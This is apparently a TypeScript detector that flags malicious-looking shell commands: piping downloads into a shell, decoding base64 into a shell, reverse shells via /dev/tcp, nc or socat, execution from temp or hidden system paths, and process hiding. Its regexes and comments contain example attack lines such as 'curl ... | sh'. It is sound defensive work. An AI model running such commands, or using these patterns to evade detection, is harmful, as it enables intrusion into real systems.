/** What a command does that start entries of distributions, managed servers and developers do not. */
export const signs = [
  'download-to-shell',
  'decoded-to-shell',
  'reverse-shell',
  'temporary-place',
  'hidden-in-system',
  'hides-processes',
] as const;
export type Sign = (typeof signs)[number];

const shell = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:ba|da|z|k|a)?sh\b`;
/** Where a program begins: at the start, after a separator or a quote, or as the script of an interpreter. */
const begin = String.raw`(?:^["']?|[;&|(]\s*["']?|\b(?:(?:ba|da|z|k|a)?sh|python[\d.]*|perl|ruby|php|node|nohup|exec|setsid|nice|ionice|sudo|env|busybox)\s+(?:-\S+\s+)*["']?)`;
const temporary = '(?:/tmp|/var/tmp|/dev/shm|/private/tmp|/private/var/tmp)/';

/**
 * Who is asked for what is run. Inside the own network that is how machines are set up; from the internet it is how malware comes back.
 * curl -fsS http://198.51.100.7/x | sh
 */
const piped = new RegExp(String.raw`\b(?:curl|wget|fetch)\b(?<from>[^|;&]{1,500})\|\s*${shell}`);
/** bash -c "$(curl -fsSL https://x.example/i)", bash <(curl …) */
const substituted = new RegExp(
  String.raw`(?:${shell}[^;|]{0,100}(?:\$\(|<\(|${'`'})|\beval\b[^;|]{0,20}(?:\$\(|${'`'}))\s*(?:curl|wget)\b(?<from>[^)]{1,500})`,
);

const patterns: readonly (readonly [Sign, RegExp])[] = [
  [
    'decoded-to-shell',
    new RegExp(String.raw`\bbase64\s+(?:-\w*[dD]\w*|--decode)\b[^|;&]{0,200}\|\s*(?:${shell}|python|perl)`),
  ],
  ['decoded-to-shell', /\beval\b[^;]{0,2000}\bbase64\s+(?:-\w*[dD]\w*|--decode)\b/],
  ['decoded-to-shell', /\bexec\s{0,5}\(.{0,200}\bb64decode\b/],
  ['reverse-shell', /\b(?:ba|da|z|k)?sh\s+-i\b.{0,200}\/dev\/(?:tcp|udp)\//],
  [
    'reverse-shell',
    new RegExp(String.raw`\bn(?:c|cat|etcat)\b[^;|]{0,200}\s(?:-e|-c|--exec|--sh-exec)\s*["']?${shell}`),
  ],
  ['reverse-shell', /\bsocat\b.{0,200}\bexec:["']?(?:\/\S*\/)?(?:ba|da|z|k)?sh\b/i],
  ['temporary-place', new RegExp(`${begin}${temporary}`)],
  // Tools of developers stand in hidden folders of their homes, never in those of the system.
  [
    'hidden-in-system',
    new RegExp(
      String.raw`${begin}/(?:(?:(?:usr/(?:local/)?)?(?:s?bin|lib(?:32|64)?|libexec)|etc|boot)/|(?:dev|run|(?:private/)?(?:var/)?tmp)/(?:[^\s"']{1,200}/)?)\.[^\s./"']`,
    ),
  ],
  ['hides-processes', /libprocesshider|\bLD_PRELOAD=["']?(?:\/tmp|\/var\/tmp|\/dev\/shm)\//],
];

/** The signs in a command line, each once. */
export function signsOf(command: string): Sign[] {
  const text = command.slice(0, longest);
  const found = patterns.flatMap(([sign, pattern]) => (pattern.test(text) ? [sign] : []));
  return [...new Set<Sign>([...(isFromOutside(text) ? ['download-to-shell' as const] : []), ...found])];
}

/** Command lines beyond this are data. */
const longest = 4000;

function isFromOutside(text: string): boolean {
  const from = piped.exec(text)?.groups?.from ?? substituted.exec(text)?.groups?.from;
  if (from === undefined) return false;
  const host =
    /(?:[a-z]+:\/\/)?(?:[^\s/@"']{1,200}@)?(?<host>(?:\d{1,3}\.){3}\d{1,3}|[a-z\d-]+(?:\.[a-z\d-]+)+)(?=[:/\s"']|$)/i.exec(
      from,
    )?.groups?.host;
  return host !== undefined && !ownNetwork.test(host);
}

/** Private addresses (RFC 1918, loopback) and endings that the internet does not have (RFC 6762 appendix G, RFC 8375, ICANN's .internal). */
const ownNetwork =
  /^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)|\.(?:local|lan|internal|intranet|corp|home|private|localdomain|home\.arpa)$/i;
